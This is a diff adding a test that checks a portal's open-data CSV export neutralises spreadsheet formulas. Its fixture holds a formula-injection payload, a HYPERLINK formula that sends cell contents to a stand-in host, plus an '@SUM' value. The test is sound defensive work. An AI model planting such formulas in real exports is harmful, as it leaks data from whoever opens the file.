@@ -185,6 +185,17 @@ def test_feed_and_open_data(client, tree, clerk):
     assert header.startswith("id,url,title") and d.title in row
 
 
+def test_open_data_csv_does_not_hand_a_spreadsheet_a_formula(client, tree, clerk):
+    import csv
+    import io
+
+    publish(clerk, tree.commune, title='=HYPERLINK("http://x.example/?"&A1,"Xem")', document_number="@SUM(1+1)")
+    csv_text = client.get(reverse("portal:open_data_csv", args=[tree.commune.code])).content.decode("utf-8-sig")
+    row = next(csv.DictReader(io.StringIO(csv_text)))
+    assert row["title"] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"Xem\")"
+    assert row["document_number"] == "'@SUM(1+1)"
+
+
 @pytest.fixture
 def asking(settings):
     settings.QUESTION_MIN_SECONDS = 0
